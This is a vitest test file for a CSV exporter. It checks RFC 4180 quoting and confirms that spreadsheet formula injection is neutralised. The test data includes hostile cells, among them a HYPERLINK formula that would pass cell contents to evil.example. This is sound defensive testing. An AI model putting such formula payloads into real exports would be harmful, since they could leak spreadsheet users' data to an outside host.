// CSV export: RFC 4180 quoting and formula neutralisation, with hostile cells.
import { describe, expect, it } from 'vitest';
import { csvField, neutraliseCell, toCsv } from '../../engine/export/csv';

/** A small RFC 4180 reader, to check the writer round-trips (independent of the writer's code). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 1;
    } else field += c;
  }
  return rows;
}

describe('neutraliseCell', () => {
  it.each([
    ['=HYPERLINK("http://evil.example","click")', `'=HYPERLINK("http://evil.example","click")`],
    ['+1', "'+1"],
    ['-2', "'-2"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
  ])('makes %j inert', (input, expected) => {
    expect(neutraliseCell(input)).toBe(expected);
  });

  it('leaves ordinary text alone, including formula characters later in the text', () => {
    for (const text of ['Organic search', 'a=b', 'Q1 + Q2', 'email@example.com', '', 'Zürich – 東京 🚀']) expect(neutraliseCell(text)).toBe(text);
  });
});

describe('csvField', () => {
  it('writes numbers as numbers, negative ones included (only text is neutralised)', () => {
    expect(csvField(-2)).toBe('-2');
    expect(csvField(0.6679)).toBe('0.6679');
    expect(csvField(Number.NaN)).toBe('');
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
  });

  it('quotes commas, quotes and line breaks, doubling quotes', () => {
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('=A1,"x"')).toBe(`"'=A1,""x"""`);
  });
});

describe('toCsv', () => {
  const hostile = ['=HYPERLINK("http://evil.example?x="&A1,"Open")', '+1', '-2', '@SUM(1,2)', '\tTab', '\rCR', 'quote " in', 'line\r\nbreak', 'Zürich – 東京 🚀', 'plain'];

  it('round-trips every hostile value, each one made inert', () => {
    const csv = toCsv([['name', 'value'], ...hostile.map((h, i) => [h, i])]);
    const back = parseCsv(csv);
    expect(back[0]).toEqual(['name', 'value']);
    back.slice(1).forEach((row, i) => {
      const original = hostile[i] ?? '';
      expect(row[0]).toBe(/^[=+\-@\t\r]/.test(original) ? `'${original}` : original);
      expect(row[1]).toBe(String(i));
      // Nothing a spreadsheet would evaluate is left at the start of a cell.
      expect(row[0]).not.toMatch(/^[=+\-@\t\r]/);
    });
  });

  it('ends every record with CRLF and keeps an empty table empty', () => {
    expect(toCsv([['a', 'b'], ['c', null]])).toBe('a,b\r\nc,\r\n');
    expect(toCsv([])).toBe('');
  });
});
